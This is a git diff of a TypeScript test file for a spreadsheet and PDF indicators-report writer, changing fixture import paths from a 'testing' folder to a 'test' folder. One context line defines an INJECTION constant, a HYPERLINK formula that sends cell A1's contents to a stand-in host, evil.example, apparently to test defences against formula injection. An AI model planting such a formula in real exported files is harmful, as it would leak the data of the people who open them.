@@ -1,9 +1,9 @@
 import ExcelJS from 'exceljs';
 import { writeIndicatorsReport } from './index';
 import type { IndicatorsReport, SupportedCompanyRow } from './report-types';
-import { CollectingWritable, companies, companyRow, RULES, sampleIndicators } from './testing/fixtures';
-import { parseCsv } from './testing/read-csv';
-import { hasPdftotext, parsePdfText, pdfPageCount, pdfToText } from './testing/read-pdf';
+import { CollectingWritable, companies, companyRow, RULES, sampleIndicators } from './test/fixtures';
+import { parseCsv } from './test/read-csv';
+import { hasPdftotext, parsePdfText, pdfPageCount, pdfToText } from './test/read-pdf';
 
 const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")';
 
